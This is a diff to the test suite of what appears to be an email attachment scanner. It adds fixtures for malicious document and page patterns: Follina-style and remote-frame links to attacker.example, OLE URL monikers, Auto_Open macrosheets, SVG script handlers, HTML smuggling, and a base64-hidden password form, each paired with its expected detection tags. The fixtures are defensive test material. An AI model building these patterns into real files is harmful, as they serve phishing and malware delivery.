@@ -15,6 +15,7 @@ from gatepost.checks.attachments.formats import MAGIC, Kind
 from gatepost.checks.attachments.inspect import inspect_file
 from gatepost.checks.attachments.item import Inspection
 from gatepost.checks.attachments.kinds import kind_of
+from gatepost.checks.attachments.objects import URL_MONIKER
 from gatepost.mail import limits
 from support import files
 from support.compound_file import Storage, compound
@@ -73,7 +74,7 @@ OFFICE = [
     (
         "follina.docx",
         files.docx(parts={RELS: files.relation("oleObject", "mhtml:https://attacker.example/x.html!x")}),
-        {"external"},
+        {"remote-object"},
     ),
     (
         "dde.docx",
@@ -192,11 +193,38 @@ PAGES = [
         {"redirect", "activehtml"},
     ),
     ("opens.html", b"<html><a href='search-ms:query=x&crumb=location:\\\\192.0.2.1'>x</a>", {"protocol"}),
-    ("drawing.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='x()'><circle/></svg>", {"activehtml"}),
+    (
+        "drawing.svg",
+        b"<svg xmlns='http://www.w3.org/2000/svg' onload='x()'><circle/></svg>",
+        {"activehtml", "active-drawing"},
+    ),
     (
         "smuggles.svg",
         b"<svg><script>x='" + base64.b64encode(files.archive({"a": "b" * 50})) + b"'</script></svg>",
+        {"smuggled", "activehtml", "active-drawing"},
+    ),
+]
+
+PAGES += [
+    (
+        "frame.html",
+        b"<iframe src='data:text/html;base64," + base64.b64encode(b"<html><input type=password name=p></html>") + b"'>",
+        {"obfuscated", "login-form"},
+    ),
+    (
+        "taken apart.html",
+        b"<script>x=window['URL']['createObje'+'ctURL'](new window['Bl'+'ob']([y]))</script>",
         {"smuggled", "activehtml"},
+    ),
+]
+OFFICE += [
+    ("frame.docx", files.docx(parts={RELS: files.relation("frame", "https://attacker.example/x.html")}), {"external"}),
+    ("moniker.rtf", files.rtf_object("OLE2Link", b"x" * 20 + URL_MONIKER + b"y" * 20), {"object", "remote-object"}),
+    ("moniker.doc", files.doc({"\1Ole": b"x" * 20 + URL_MONIKER + b"y" * 20}), {"remote-object"}),
+    (
+        "sheet.xlsb",
+        files.docx(parts={"xl/macrosheets/sheet1.bin": b"x", "xl/workbook.bin": "Auto_Open".encode("utf-16-le")}),
+        {"macro", "autoopen"},
     ),
 ]
 
@@ -236,6 +264,8 @@ HONEST = [
     ("printable.pdf", files.pdf(encryption=pikepdf.Encryption(user="", owner="x"))),
     ("page.html", b"<!DOCTYPE html><html><head><style>p {}</style></head><body><p>Minutes</p><img src='data:image/png;base64," + base64.b64encode(files.png()) + b"'></body></html>"),
     ("structured.html", b'<html><script type="application/ld+json">{"@type": "EmailMessage"}</script></html>'),
+    ("saved by office.html", b"<html><link rel=File-List href='file:///C:/Users/a/filelist.xml'><a href='file:///C:/a.txt'>x</a></html>"),
+    ("shows a report.html", b"<html><embed src='data:application/pdf;base64," + base64.b64encode(files.pdf()) + b"'></html>"),
     ("drawing.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><circle r='1'/></svg>"),
     ("photo.png", files.png()),
     ("notes.one", files.onenote(files.png())),
